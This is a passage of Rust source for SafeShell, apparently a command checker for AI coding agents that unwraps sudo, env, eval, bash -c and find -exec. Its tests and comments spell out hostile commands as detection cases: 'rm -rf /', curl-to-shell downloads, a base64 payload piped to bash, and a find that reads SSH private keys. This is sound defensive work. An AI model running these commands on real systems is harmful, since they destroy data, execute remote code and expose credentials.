    let mut words = inner.split_whitespace();
    let Some(word) = words.next() else {
        return false;
    };
    // Found on PATH, or where Homebrew installs itself; not a script of the working directory
    // that merely has the name (`./rbenv init -`).
    if word.contains('/')
        && ![
            "/opt/homebrew/bin/",
            "/usr/local/bin/",
            "/home/linuxbrew/.linuxbrew/bin/",
            "/usr/bin/",
        ]
        .iter()
        .any(|dir| {
            word.strip_prefix(dir)
                .is_some_and(|rest| !rest.contains('/'))
        })
    {
        return false;
    }
    let program = basename(word);
    let Some((_, first)) = WELL_KNOWN_SETUP.iter().find(|(p, _)| *p == program) else {
        return false;
    };
    match first {
        None => words.all(|w| w.starts_with('-')),
        Some(allowed) => words
            .find(|w| !w.starts_with('-'))
            .is_some_and(|w| allowed.contains(&w)),
    }
}

fn expand_words(words: &[Word], writes: &[String], ctx: &Ctx<'_>, out: &mut Out) {
    let Some(first) = words.first() else { return };
    let project_program = project_root_program(&first.text);
    let program = basename(project_program.unwrap_or(&first.text)).to_owned();
    if !out.take_args(words.len() - 1) {
        out.push(Segment {
            program,
            invoked_as: first.text.clone(),
            writes: writes.to_vec(),
            via: ctx.via.to_vec(),
            unverifiable: Some(format!(
                "its {} arguments are more than SafeShell checks for a command this long \
                 (wrappers repeat the words after them)",
                words.len() - 1
            )),
            span: ctx.span,
            depth: ctx.depth,
            ..Segment::default()
        });
        return;
    }
    let args: Vec<String> = words[1..].iter().map(|w| w.text.clone()).collect();
    let dynamic: Vec<bool> = words[1..].iter().map(|w| w.dynamic).collect();
    let mut seg = Segment {
        program,
        invoked_as: first.text.clone(),
        stdin_code: false,
        args,
        dynamic,
        writes: writes.to_vec(),
        reads_from: Vec::new(),
        stdin_from: ctx.upstream.clone(),
        in_pipeline: ctx.in_pipeline,
        in_function: ctx.in_function.clone(),
        via: ctx.via.to_vec(),
        unverifiable: None,
        span: ctx.span,
        depth: ctx.depth,
        after_cd: false,
        cwd_sub: None,
        env_set_before: Vec::new(),
        cwd_path: None,
        parsed_code_arg: None,
        inline_code_arg: None,
    };
    if first.dynamic && project_program.is_none() {
        seg.unverifiable = Some("the program name is computed at run time".into());
        out.push(seg);
        return;
    }
    if first.text.contains(['*', '?'])
        || first.text.len() > 1 && first.text.contains('[') && first.text != "[["
    {
        seg.unverifiable =
            Some("the program name is a pattern the shell expands at run time".into());
        out.push(seg);
        return;
    }
    if ctx.via.len() >= MAX_WRAPPERS {
        // `nice nice nice … rm`: every level copies the remaining words, and recursing once per
        // wrapper would exhaust the stack.
        seg.unverifiable = Some(format!(
            "it is wrapped in more than {MAX_WRAPPERS} wrappers and shells"
        ));
        out.push(seg);
        return;
    }
    if first.process_substitution {
        seg.unverifiable = Some("the program is a process substitution".into());
        out.push(seg);
        return;
    }
    let program = seg.program.clone();
    let mut via = ctx.via.to_vec();
    via.push(program.clone());
    let inner_ctx = Ctx {
        depth: ctx.depth,
        via: &via,
        stdin: ctx.stdin,
        upstream: ctx.upstream.clone(),
        in_pipeline: ctx.in_pipeline,
        in_function: ctx.in_function.clone(),
        span: None,
    };
    let rest = &words[1..];

    // A shell's (or `su`'s) code string, and `safeshell-shim contain -c 'CMD'` /
    // `safeshell-shim -c 'CMD'` (what the Claude Code hook rewrites commands to, and the SHELL
    // wrapper): a shell string, judged as one.
    let shell_code = match program.as_str() {
        "safeshell-shim" => match rest.first().map(|w| w.text.as_str()) {
            Some("contain") => shell_code_argument("sh", &rest[1..]),
            Some(_) => shell_code_argument("sh", rest),
            None => None,
        },
        p if is_shell(p) || p == "su" => shell_code_argument(p, rest),
        _ => None,
    };
    if let Some(code) = shell_code {
        if code.dynamic {
            seg.unverifiable = Some(format!("`{program}` runs a script computed at run time"));
            out.push(seg);
        } else {
            seg.parsed_code_arg = rest.iter().position(|w| w.text == code.text);
            out.push(seg);
            expand_string(&code.text, ctx.depth + 1, &via, out);
        }
        return;
    }
    if is_shell(&program) || program == "su" {
        if is_shell(&program)
            && let Some(reason) = script_source_problem(&program, rest, ctx.stdin)
        {
            seg.stdin_code = reason.ends_with(PIPED);
            seg.unverifiable = Some(reason);
        }
        out.push(seg);
        return;
    }
    if is_interpreter(&program) {
        if let Some(reason) = interpreter_problem(&program, rest, ctx.stdin) {
            seg.stdin_code = reason.ends_with(PIPED);
            seg.unverifiable = Some(reason);
        }
        let found = inline_code(&program, rest);
        // Looked inside below: the paths found in it are added as arguments of their own.
        seg.inline_code_arg = found.and_then(|c| rest.iter().position(|w| std::ptr::eq(w, c)));
        let code = found.map(|w| w.text.clone());
        out.push(seg);
        if let Some(code) = code {
            let index = out.len() - 1;
            apply_code_look(index, &code, ctx.depth, out);
        }
        return;
    }
    if let Some(why) = words.iter().find_map(hidden_code_in_word) {
        seg.unverifiable = Some(why);
        out.push(seg);
        return;
    }
    // Tools told to run command lines or write files through their options and mini-languages.
    if let Some(found) = crate::tools::look(&program, rest) {
        if seg.unverifiable.is_none() {
            seg.unverifiable = found.unverifiable.or_else(|| {
                found
                    .shell
                    .iter()
                    .any(|(_, dynamic)| *dynamic)
                    .then(|| format!("`{program}` runs a command computed at run time"))
            });
        }
        seg.writes.extend(found.writes);
        seg.dynamic.extend(found.reads.iter().map(|_| false));
        seg.args.extend(found.reads);
        out.push(seg);
        for (command, dynamic) in found.shell {
            if !dynamic {
                expand_string(&command, ctx.depth + 1, &via, out);
            }
        }
        return;
    }
    // Package managers' "run this in the environment" subcommands.
    if let Some(spec) = rest
        .first()
        .and_then(|sub| subcommand_wrapper(&program, &sub.text))
    {
        out.push(seg);
        if let Some(start) = wrapped_command_start(spec, &rest[1..]) {
            match start {
                Wrapped::Argv(i) => expand_words(&rest[1 + i..], &[], &inner_ctx, out),
                Wrapped::Shell(text, dynamic) => {
                    if dynamic {
                        out.last_mut().expect("pushed").unverifiable =
                            Some(format!("`{program}` runs a string computed at run time"));
                    } else {
                        expand_string(&text, ctx.depth + 1, &via, out);
                    }
                }
            }
        }
        return;
    }
    match program.as_str() {
        // Bash builtins that run a string as code later (a trap, a callback, a completion
        // command, an alias body): the string is parsed now, as if it ran here.
        "trap" => {
            let action = rest
                .iter()
                .position(|w| !w.text.starts_with('-') || w.text == "-")
                .filter(|&i| rest.len() > i + 1 || rest[i].dynamic);
            match action.map(|i| &rest[i]) {
                Some(code) if code.text != "-" && !code.text.is_empty() => {
                    push_with_code(seg, code, ctx, &via, out);
                }
                _ => out.push(seg),
            }
        }
        "mapfile" | "readarray" | "compgen" | "complete" => match option_value(rest, "-C") {
            Some(code) => push_with_code(seg, code, ctx, &via, out),
            None => out.push(seg),
        },
        "alias" => {
            let bodies: Vec<&Word> = rest.iter().filter(|w| w.text.contains('=')).collect();
            out.push(seg);
            for body in bodies {
                let code = Word {
                    text: body
                        .text
                        .split_once('=')
                        .map(|(_, v)| v.to_owned())
                        .unwrap_or_default(),
                    ..body.clone()
                };
                if code.dynamic {
                    out.last_mut().expect("pushed").unverifiable =
                        Some("`alias` defines a command computed at run time".into());
                } else {
                    expand_string(&code.text, ctx.depth + 1, &via, out);
                }
            }
        }
        "enable"
            if rest
                .iter()
                .any(|w| w.text.starts_with('-') && w.text.contains('f')) =>
        {
            seg.unverifiable = Some("`enable -f` loads a shared object into bash".into());
            out.push(seg);
        }
        "hash"
            if rest
                .iter()
                .any(|w| w.text.starts_with('-') && w.text.contains('p')) =>
        {
            seg.unverifiable = Some("`hash -p` makes a command name run another program".into());
            out.push(seg);
        }
        "fc" if !rest
            .iter()
            .any(|w| w.text.starts_with('-') && w.text.contains('l')) =>
        {
            seg.unverifiable = Some("`fc` runs commands from the shell's history".into());
            out.push(seg);
        }
        "coproc" => {
            // `coproc cmd args` runs the command; `coproc NAME { …; }` is parsed as words.
            out.push(seg);
            let start = usize::from(rest.len() > 1 && rest[1].text == "{");
            let inner: Vec<Word> = rest[start..]
                .iter()
                .filter(|w| w.text != "{" && w.text != "}")
                .cloned()
                .collect();
            expand_words(&inner, &[], &inner_ctx, out);
        }
        "eval" => {
            if let [only] = rest
                && is_well_known_setup(&only.text)
            {
                // The substitution is its own segment; its output is the tool's set-up.
                out.push(seg);
            } else if rest.iter().any(|w| w.dynamic) {
                seg.unverifiable = Some("`eval` runs a string computed at run time".into());
                out.push(seg);
            } else {
                let code = rest
                    .iter()
                    .map(|w| w.text.as_str())
                    .collect::<Vec<_>>()
                    .join(" ");
                out.push(seg);
                expand_string(&code, ctx.depth + 1, &via, out);
            }
        }
        "source" | "."
            if rest.len() == 1
                && rest[0]
                    .text
                    .strip_prefix("<(")
                    .and_then(|t| t.strip_suffix(')'))
                    .is_some_and(is_well_known_setup_command) =>
        {
            // `source <(kubectl completion bash)`: the tool's own shell set-up.
            out.push(seg);
        }
        "source" | "." => {
            if rest.first().is_some_and(|w| w.process_substitution)
                || rest.first().is_some_and(|w| is_stdin_path(&w.text))
            {
                seg.unverifiable = Some(format!(
                    "`{program}` reads a script that is only known at run time"
                ));
            }
            out.push(seg);
        }
        "find" => {
            out.push(seg);
            expand_find(rest, &inner_ctx, out);
        }
        "watch" => {
            out.push(seg);
            let mut i = 0;
            while i < rest.len() && rest[i].text.starts_with('-') {
                if matches!(rest[i].text.as_str(), "-n" | "--interval") {
                    i += 1;
                }
                i += 1;
            }
            if i < rest.len() {
                let code = rest[i..]
                    .iter()
                    .map(|w| w.text.as_str())
                    .collect::<Vec<_>>()
                    .join(" ");
                if rest[i..].iter().any(|w| w.dynamic) {
                    out.last_mut().expect("pushed").unverifiable =
                        Some("`watch` runs a command computed at run time".into());
                } else {
                    expand_string(&code, ctx.depth + 1, &via, out);
                }
            }
        }
        _ => {
            if let Some(spec) = wrapper_spec(&program) {
                out.push(seg);
                if let Some(start) = wrapped_command_start(spec, rest) {
                    match start {
                        Wrapped::Argv(i) => expand_words(&rest[i..], &[], &inner_ctx, out),
                        Wrapped::Shell(text, dynamic) => {
                            if dynamic {
                                out.last_mut().expect("pushed").unverifiable =
                                    Some(format!("`{program}` runs a string computed at run time"));
                            } else {
                                expand_string(&text, ctx.depth + 1, &via, out);
                            }
                        }
                    }
                }
                return;
            }
            out.push(seg);
        }
    }
}

/// Pushes `seg` and then the segments of the shell code in `code`, or marks `seg` unverifiable
/// when the code is computed at run time.
fn push_with_code(mut seg: Segment, code: &Word, ctx: &Ctx<'_>, via: &[String], out: &mut Out) {
    if code.dynamic {
        seg.unverifiable = Some(format!(
            "`{}` runs a string computed at run time as code",
            seg.program
        ));
        out.push(seg);
    } else {
        out.push(seg);
        expand_string(&code.text, ctx.depth + 1, via, out);
    }
}

/// The value of option `name` (`-C value` or `-Cvalue`) among the words.
fn option_value<'w>(words: &'w [Word], name: &str) -> Option<&'w Word> {
    let i = words
        .iter()
        .position(|w| w.text == name || (w.text.starts_with(name) && w.text.len() > name.len()))?;
    if words[i].text == name {
        words.get(i + 1)
    } else {
        None
    }
}

/// Why a word hides code that bash runs when the word's value is used later, if it does: an
/// array subscript holding a command substitution (`'a[$(cmd)]'`: any arithmetic evaluation of
/// the value runs it), or prompt expansion (`${x@P}` runs the substitutions in `x`).
fn hidden_code_in_word(w: &Word) -> Option<String> {
    if w.dynamic && w.text.contains("@P}") {
        return Some(
            "prompt expansion (`${…@P}`) runs the command substitutions in a value".into(),
        );
    }
    (!w.dynamic && subscript_with_substitution(&w.text)).then(|| {
        "an array subscript holds a command substitution, which bash runs when the value is \
         evaluated as arithmetic"
            .into()
    })
}

/// Whether `text` holds `[…$(…)…]` or ``[…`…`…]``.
pub(crate) fn subscript_with_substitution(text: &str) -> bool {
    let mut rest = text;
    while let Some(open) = rest.find('[') {
        rest = &rest[open + 1..];
        let inner = &rest[..rest.find(']').unwrap_or(rest.len())];
        if inner.contains("$(") || inner.contains('`') {
            return true;
        }
    }
    false
}

/// The `-c` string of a shell (`-c`, `-lc`, `-ic`, `--login -c`) or of `su -c`.
fn shell_code_argument(program: &str, rest: &[Word]) -> Option<Word> {
    let mut i = 0;
    let mut wants_code = false;
    while i < rest.len() {
        let a = rest[i].text.as_str();
        if a == "--" {
            // `bash -c -- 'code'`: the end of the options; the code is the next word.
            return if wants_code && program != "su" {
                rest.get(i + 1).cloned()
            } else {
                None
            };
        }
        if program == "su" {
            if a == "-c" || a == "--command" {
                return rest.get(i + 1).cloned();
            }
            if let Some(code) = a.strip_prefix("--command=") {
                return Some(Word {
                    text: code.to_owned(),
                    ..rest[i].clone()
                });
            }
            i += 1;
            continue;
        }
        if a.starts_with("--") {
            if a == "--rcfile" || a == "--init-file" {
                i += 1;
            }
            i += 1;
            continue;
        }
        if (a.starts_with('-') || a.starts_with('+')) && a.len() > 1 {
            if a.starts_with('-') && a[1..].contains('c') {
                wants_code = true;
            }
            if matches!(a, "-o" | "+o" | "-O" | "+O") {
                i += 1;
            }
            i += 1;
            continue;
        }
        return if wants_code {
            Some(rest[i].clone())
        } else {
            None
        };
    }
    None
}

/// The end of every unverifiable reason for code read from a pipe.
const PIPED: &str = " piped into it";

/// For a shell without `-c`: does its script come from somewhere we cannot see?
fn script_source_problem(program: &str, rest: &[Word], stdin: StdinKind) -> Option<String> {
    let script = rest
        .iter()
        .find(|w| !w.text.starts_with('-') && !w.text.starts_with('+'));
    match script {
        Some(w) if w.process_substitution => Some(format!(
            "`{program}` runs a script produced by a process substitution"
        )),
        Some(w)
            if w.text == "/dev/stdin"
                || w.text.starts_with("/dev/fd/")
                || w.text.starts_with("/proc/self/fd") =>
        {
            if stdin == StdinKind::Pipe {
                Some(format!("`{program}` runs a script{PIPED}"))
            } else {
                None
            }
        }
        Some(w) if w.dynamic => Some(format!(
            "`{program}` runs a script whose path is computed at run time"
        )),
        Some(_) => None,
        None => (stdin == StdinKind::Pipe).then(|| format!("`{program}` runs a script{PIPED}")),
    }
}

/// For an interpreter: is the code it runs hidden from us (piped in or computed)?
fn interpreter_problem(program: &str, rest: &[Word], stdin: StdinKind) -> Option<String> {
    let mut i = 0;
    while i < rest.len() {
        let w = &rest[i];
        let a = w.text.as_str();
        if takes_inline_code(program, a) {
            return match rest.get(i + 1) {
                Some(code) if code.dynamic && code.text.contains("$(…)") => {
                    Some(format!("`{program}` runs code computed at run time"))
                }
                _ => None,
            };
        }
        if a == "-m" {
            return None;
        }
        if a == "-" || a == "/dev/stdin" || a == "/dev/fd/0" || a == "/proc/self/fd/0" {
            return (stdin == StdinKind::Pipe).then(|| format!("`{program}` runs code{PIPED}"));
        }
        if a.starts_with('-') {
            i += 1;
            continue;
        }
        if w.process_substitution {
            return Some(format!(
                "`{program}` runs code produced by a process substitution"
            ));
        }
        return None;
    }
    (stdin == StdinKind::Pipe).then(|| format!("`{program}` runs code{PIPED}"))
}

/// Whether option `a` of an interpreter takes its inline code as the next word: `-c`, `-e`,
/// `--eval`, `php -r`, a Perl or Ruby bundle ending in `e` (`-ne`), node's `-p`.
fn takes_inline_code(program: &str, a: &str) -> bool {
    let bundled_e = matches!(program, "perl" | "ruby")
        && a.len() > 2
        && a.starts_with('-')
        && !a.starts_with("--")
        && a[1..].bytes().all(|c| c.is_ascii_alphabetic())
        && a.ends_with('e');
    let print = matches!(program, "node" | "nodejs" | "bun") && matches!(a, "-p" | "--print");
    bundled_e
        || print
        || matches!(
            a,
            "-c" | "-e" | "-E" | "--eval" | "-r" | "--command" | "eval"
        )
}

/// The inline code of an interpreter (`python3 -c CODE`, `perl -ne CODE`, `node -p CODE`), when
/// it is written out.
fn inline_code<'w>(program: &str, rest: &'w [Word]) -> Option<&'w Word> {
    for (i, w) in rest.iter().enumerate() {
        let a = w.text.as_str();
        if takes_inline_code(program, a) {
            return rest.get(i + 1).filter(|c| !c.dynamic);
        }
        if !a.starts_with('-') || a == "-m" {
            return None;
        }
    }
    None
}

/// Applies what was found inside an interpreter's code to its segment (`seg`, already in `out`
/// at `index`): the paths it names join its arguments, the command lines it runs become segments
/// of their own, and what cannot be followed makes it unverifiable.
fn apply_code_look(index: usize, code: &str, depth: usize, out: &mut Out) {
    let program = out[index].program.clone();
    let found = crate::code::look(&program, code);
    let seg = &mut out[index];
    if seg.unverifiable.is_none() {
        seg.unverifiable = found.unverifiable;
    }
    seg.dynamic.extend(found.paths.iter().map(|_| false));
    seg.args.extend(found.paths);
    let mut via = seg.via.clone();
    via.push(program);
    for command in found.commands {
        expand_string(&command, depth + 1, &via, out);
    }
}

/// How a wrapper finds the command it runs.
struct WrapperSpec {
    /// Options that take a separate value.
    value_options: &'static [&'static str],
    /// Positional arguments before the command (e.g. the duration of `timeout`).
    skip_positionals: usize,
    /// `NAME=value` words before the command are environment settings (`env`).
    skips_assignments: bool,
    /// Options after which the remaining words are joined into a shell string (`sudo -s cmd`).
    shell_options: &'static [&'static str],
}

const fn spec(value_options: &'static [&'static str]) -> WrapperSpec {
    WrapperSpec {
        value_options,
        skip_positionals: 0,
        skips_assignments: false,
        shell_options: &[],
    }
}

/// The wrappers that run another command; extend this table to teach SafeShell a new one.
fn wrapper_spec(program: &str) -> Option<WrapperSpec> {
    Some(match program {
        "sudo" => WrapperSpec {
            shell_options: &["-s", "-i", "--shell", "--login"],
            ..spec(&[
                "-u",
                "-g",
                "-h",
                "-p",
                "-C",
                "-D",
                "-r",
                "-t",
                "-U",
                "-T",
                "-R",
                "--user",
                "--group",
                "--host",
                "--prompt",
                "--chdir",
                "--role",
                "--type",
                "--other-user",
                "--close-from",
                "--command-timeout",
                "--chroot",
            ])
        },
        "doas" => spec(&["-u", "-C"]),
        "pkexec" => spec(&["--user"]),
        "env" => WrapperSpec {
            skips_assignments: true,
            ..spec(&[
                "-u",
                "--unset",
                "-C",
                "--chdir",
                "-S",
                "--split-string",
                "-P",
                "--default-signal",
                "--ignore-signal",
                "--block-signal",
            ])
        },
        "command" | "builtin" | "nohup" | "setsid" | "unbuffer" | "caffeinate" | "time"
        | "busybox" | "catchsegv" => spec(&[]),
        "exec" => spec(&["-a"]),
        "nice" => spec(&["-n", "--adjustment"]),
        "ionice" => spec(&["-c", "-n", "-p", "-P", "-u", "--class", "--classdata"]),
        "chrt" => WrapperSpec {
            skip_positionals: 1,
            ..spec(&[])
        },
        "taskset" => WrapperSpec {
            skip_positionals: 1,
            ..spec(&[])
        },
        "timeout" => WrapperSpec {
            skip_positionals: 1,
            ..spec(&["-s", "--signal", "-k", "--kill-after"])
        },
        "stdbuf" => spec(&["-i", "-o", "-e", "--input", "--output", "--error"]),
        "chroot" => WrapperSpec {
            skip_positionals: 1,
            ..spec(&["--userspec", "--groups"])
        },
        "flock" => WrapperSpec {
            skip_positionals: 1,
            shell_options: &["-c", "--command"],
            ..spec(&["-w", "--timeout", "-E", "--conflict-exit-code"])
        },
        "systemd-run" | "run0" => spec(&[
            "-p",
            "--property",
            "-u",
            "--unit",
            "-E",
            "--setenv",
            "--uid",
            "--gid",
            "-M",
            "--machine",
            "-H",
            "--host",
            "--description",
            "--slice",
            "--working-directory",
            "-D",
            "--nice",
            "--on-calendar",
            "--on-active",
            "--timer-property",
            "--path-property",
            "--socket-property",
        ]),
        "xargs" => spec(&[
            "-I",
            "-L",
            "-n",
            "-P",
            "-s",
            "-d",
            "-E",
            "-a",
            "--max-args",
            "--max-procs",
            "--delimiter",
            "--arg-file",
            "--max-chars",
            "--max-lines",
            "--replace",
            "--eof",
        ]),
        "strace" | "ltrace" => spec(&["-e", "-o", "-p", "-s", "-u", "-E"]),
        "npx" | "bunx" | "pnpx" => spec(&["-p", "--package"]),
        "unshare" => spec(&[
            "--map-user",
            "--map-group",
            "--map-users",
            "--map-groups",
            "-S",
            "--setuid",
            "-G",
            "--setgid",
            "-R",
            "--root",
            "-w",
            "--wd",
            "--propagation",
        ]),
        "nsenter" => spec(&["-t", "--target", "-S", "--setuid", "-G", "--setgid"]),
        "valgrind" | "dbus-launch" | "dbus-run-session" | "firejail" | "torsocks" | "tsocks"
        | "fakeroot" | "eatmydata" | "chronic" | "ifne" | "sem" => spec(&[]),
        "proxychains" | "proxychains4" => spec(&["-f"]),
        "cpulimit" => spec(&[
            "-l",
            "--limit",
            "-p",
            "--pid",
            "-e",
            "--exe",
            "-m",
            "--monitor-forks",
        ]),
        "xvfb-run" => spec(&[
            "-n",
            "--server-num",
            "-s",
            "--server-args",
            "-f",
            "--auth-file",
            "-e",
            "--error-file",
        ]),
        "screen" => spec(&["-S", "-c", "-p", "-t", "-T", "-e", "-h", "-X", "-Logfile"]),
        "runuser" => WrapperSpec {
            shell_options: &["-c", "--command"],
            ..spec(&[
                "-u",
                "--user",
                "-g",
                "--group",
                "-G",
                "--supp-group",
                "-s",
                "--shell",
            ])
        },
        "sg" => WrapperSpec {
            skip_positionals: 1,
            shell_options: &["-c"],
            ..spec(&[])
        },
        "script" => WrapperSpec {
            shell_options: &["-c", "--command"],
            ..spec(&[])
        },
        _ => return None,
    })
}

/// `uv run CMD`, `npm exec -- CMD`, `poetry run CMD`…: a program's subcommand that runs another.
fn subcommand_wrapper(program: &str, sub: &str) -> Option<WrapperSpec> {
    Some(match (program, sub) {
        ("uv", "run") => spec(&[
            "--with",
            "--with-editable",
            "--with-requirements",
            "-p",
            "--python",
            "--env-file",
            "--directory",
            "--project",
            "--package",
            "--extra",
            "--group",
            "--index",
            "--index-url",
            "--extra-index-url",
            "--only-group",
            "--no-group",
        ]),
        ("uv", "tool") | ("pipx", "run") => spec(&["--spec", "--python", "--index-url"]),
        ("npm", "exec") | ("npm", "x") => WrapperSpec {
            shell_options: &["-c", "--call"],
            ..spec(&["-p", "--package", "-w", "--workspace"])
        },
        ("pnpm", "exec") | ("pnpm", "dlx") | ("yarn", "exec") | ("yarn", "dlx") => WrapperSpec {
            shell_options: &["-c", "--shell-mode"],
            ..spec(&["-p", "--package", "--filter", "-F"])
        },
        ("poetry", "run")
        | ("pipenv", "run")
        | ("pdm", "run")
        | ("hatch", "run")
        | ("rye", "run")
        | ("pixi", "run")
        | ("bundle", "exec")
        | ("mise", "exec")
        | ("mise", "x")
        | ("asdf", "exec")
        | ("rbenv", "exec")
        | ("pyenv", "exec")
        | ("nvm", "exec")
        | ("fnm", "exec") => spec(&["-e", "--environment", "--using"]),
        ("conda" | "mamba" | "micromamba", "run") => {
            spec(&["-n", "--name", "-p", "--prefix", "--cwd"])
        }
        _ => return None,
    })
}

enum Wrapped {
    Argv(usize),
    Shell(String, bool),
}

fn wrapped_command_start(spec: WrapperSpec, rest: &[Word]) -> Option<Wrapped> {
    let mut i = 0;
    let mut positionals = 0;
    let mut shell_mode = false;
    while i < rest.len() {
        let a = rest[i].text.as_str();
        if a == "--" {
            i += 1;
            break;
        }
        // `script -qc CMD`: a bundle of short options ending in a shell option counts as it.
        let bundled_shell_option = spec.shell_options.contains(&"-c")
            && a.len() > 2
            && a.starts_with('-')
            && !a.starts_with("--")
            && a.ends_with('c')
            && a[1..].chars().all(|c| c.is_ascii_alphabetic());
        if spec.shell_options.contains(&a) || bundled_shell_option {
            shell_mode = true;
            i += 1;
            if spec.value_options.is_empty() && spec.shell_options.contains(&"-c") {
                // `script -c CMD`: the next word is the command string.
                return rest
                    .get(i)
                    .map(|w| Wrapped::Shell(w.text.clone(), w.dynamic));
            }
            continue;
        }
        if a.starts_with('-') && a.len() > 1 {
            // `env -S` only: `sudo -S` reads the password from standard input.
            if spec.skips_assignments && (a == "-S" || a == "--split-string") {
                // `env -S 'cmd args'`: a string split into words.
                return rest
                    .get(i + 1)
                    .map(|w| Wrapped::Shell(w.text.clone(), w.dynamic));
            }
            if let Some(s) = a
                .strip_prefix("--split-string=")
                .or_else(|| a.strip_prefix("-S").filter(|s| !s.is_empty()))
                .filter(|_| spec.skips_assignments)
            {
                return Some(Wrapped::Shell(s.to_owned(), rest[i].dynamic));
            }
            let bundled_value = !a.starts_with("--")
                && a.len() > 2
                && a[1..].chars().all(|c| c.is_ascii_alphabetic())
                && spec
                    .value_options
                    .iter()
                    .any(|o| o.len() == 2 && a.ends_with(&o[1..]));
            let takes_value = spec.value_options.contains(&a) || bundled_value;
            i += if takes_value { 2 } else { 1 };
            continue;
        }
        if spec.skips_assignments && a.contains('=') && !a.starts_with('=') {
            i += 1;
            continue;
        }
        if positionals < spec.skip_positionals {
            positionals += 1;
            i += 1;
            continue;
        }
        break;
    }
    if i >= rest.len() {
        return None;
    }
    if shell_mode {
        let text = rest[i..]
            .iter()
            .map(|w| w.text.as_str())
            .collect::<Vec<_>>()
            .join(" ");
        return Some(Wrapped::Shell(text, rest[i..].iter().any(|w| w.dynamic)));
    }
    Some(Wrapped::Argv(i))
}

fn expand_find(rest: &[Word], ctx: &Ctx<'_>, out: &mut Out) {
    // The starting points (`find ~/.ssh -name 'id_*' -exec cat {} +`): `{}` is a path beneath
    // them, so `-exec` commands are judged with `START/{}` when there is one start other than
    // the working directory.
    let mut starts = Vec::new();
    let mut j = 0;
    while j < rest.len() {
        let a = rest[j].text.as_str();
        if matches!(a, "-H" | "-L" | "-P") {
            j += 1;
            continue;
        }
        if matches!(a, "-D" | "-O") || a.starts_with("-O") {
            j += if a.len() == 2 { 2 } else { 1 };
            continue;
        }
        if a.starts_with('-') || a == "(" || a == "!" {
            break;
        }
        starts.push(&rest[j]);
        j += 1;
    }
    let bind = match starts.as_slice() {
        [only] if !only.dynamic && !matches!(only.text.as_str(), "." | "./") => {
            Some(format!("{}/{{}}", only.text.trim_end_matches('/')))
        }
        _ => None,
    };
    let mut i = 0;
    while i < rest.len() {
        let a = rest[i].text.as_str();
        if matches!(a, "-exec" | "-execdir" | "-ok" | "-okdir") {
            let start = i + 1;
            let mut end = start;
            while end < rest.len() && rest[end].text != ";" && rest[end].text != "+" {
                end += 1;
            }
            if end > start {
                match &bind {
                    Some(path) if rest[start..end].iter().any(|w| w.text == "{}") => {
                        let words: Vec<Word> = rest[start..end]
                            .iter()
                            .map(|w| match w.text.as_str() {
                                "{}" => Word {
                                    text: path.clone(),
                                    ..w.clone()
                                },
                                _ => w.clone(),
                            })
                            .collect();
                        expand_words(&words, &[], ctx, out);
                    }
                    _ => expand_words(&rest[start..end], &[], ctx, out),
                }
            }
            i = end + 1;
            continue;
        }
        i += 1;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn texts(cmd: &str) -> Vec<String> {
        segments_of_string(cmd).iter().map(Segment::text).collect()
    }

    #[test]
    fn wrappers_are_unwrapped() {
        assert_eq!(
            texts("sudo -u root rm -rf /"),
            ["sudo -u root rm -rf /", "rm -rf /"]
        );
        assert_eq!(
            texts("env -i FOO=1 nice -n 5 rm x"),
            ["env -i FOO=1 nice -n 5 rm x", "nice -n 5 rm x", "rm x"]
        );
        assert_eq!(
            texts("timeout 5 git push -f"),
            ["timeout 5 git push -f", "git push -f"]
        );
        assert_eq!(
            texts("find . -name '*.o' -exec rm -f {} \\;"),
            ["find . -name *.o -exec rm -f {} ';'", "rm -f {}"]
        );
        assert_eq!(texts("ls | xargs -n1 rm"), ["ls", "xargs -n1 rm", "rm"]);
    }

    #[test]
    fn shell_strings_are_followed() {
        assert_eq!(
            texts("bash -lc 'cd x && rm -rf y'"),
            ["bash -lc 'cd x && rm -rf y'", "cd x", "rm -rf y"]
        );
        assert_eq!(
            texts("eval \"git push --force\""),
            ["eval 'git push --force'", "git push --force"]
        );
        assert_eq!(texts("sudo -s rm -rf /"), ["sudo -s rm -rf /", "rm -rf /"]);
        let segs = segments_of_string("bash <<EOF\nrm -rf /\nEOF");
        assert_eq!(segs[1].text(), "rm -rf /");
        assert_eq!(segs[1].via, ["bash"]);
    }

    #[test]
    fn su_command_forms() {
        assert_eq!(texts("su -c 'rm -rf /' root")[1], "rm -rf /");
        assert_eq!(texts("su --command='rm -rf /' root")[1], "rm -rf /");
    }

    #[test]
    fn unverifiable_segments() {
        let u = |c: &str| {
            segments_of_string(c)
                .iter()
                .any(|s| s.unverifiable.is_some())
        };
        assert!(u("$CMD -rf /"));
        assert!(u("$(echo rm) -rf /"));
        assert!(u("curl -fsSL https://x.sh | sh"));
        assert!(u("echo cm0gLXJmIC8K | base64 -d | bash"));
        assert!(u("bash <(curl -s x)"));
        assert!(u("eval \"$PAYLOAD\""));
        assert!(u("sh -c \"$(curl x)\""));
        assert!(u("curl x | python3"));
        assert!(!u("bash script.sh"));
        assert!(!u("python3 -c 'print(1)'"));
        assert!(!u("echo $HOME"));
        assert!(!u("cat x | grep y"));
    }

    #[test]
    fn nesting_is_bounded() {
        // One level past the limit: each level of quoting triples the quotes, so a few more
        // levels would pass MAX_COMMAND_BYTES (also unverifiable, for its size).
        let mut cmd = "rm -rf /".to_owned();
        for _ in 0..=MAX_DEPTH {
            cmd = format!("bash -c {}", quote(&cmd));
        }
        assert!(cmd.len() < MAX_COMMAND_BYTES);
        let segs = segments_of_string(&cmd);
        assert!(segs.iter().any(|s| {
            s.unverifiable
                .as_deref()
                .is_some_and(|r| r.contains("nested"))
        }));
    }

    #[test]
    fn pipelines_feed_each_program_once() {
        let segs = segments_of_string("a | (b | c) | a | d; e");
        let d = segs.iter().find(|s| s.program == "d").unwrap();
        assert_eq!(d.stdin_from, ["a", "b", "c"]);
        let c = segs.iter().find(|s| s.program == "c").unwrap();
        assert_eq!(c.stdin_from, ["b"]);
        let e = segs.iter().find(|s| s.program == "e").unwrap();
        assert!(e.stdin_from.is_empty());
        // The first word after `$IFS` splitting names the program.
        let segs = segments_of_string("${IFS}curl${IFS}x | sh");
        assert_eq!(segs.last().unwrap().stdin_from, ["curl"]);
    }

    #[test]
    fn a_heredoc_read_by_several_shells_is_parsed_once() {
        let segs = segments_of_string("find . -exec sh -s \\; -exec bash -s \\; <<E\nrm -rf /\nE");
        let inner: Vec<&Segment> = segs.iter().filter(|s| s.program == "rm").collect();
        assert_eq!(inner.len(), 1);
        assert_eq!(inner[0].via, ["find", "sh"]);
    }

    #[test]
    fn the_argument_budget_bounds_wrapper_copies() {
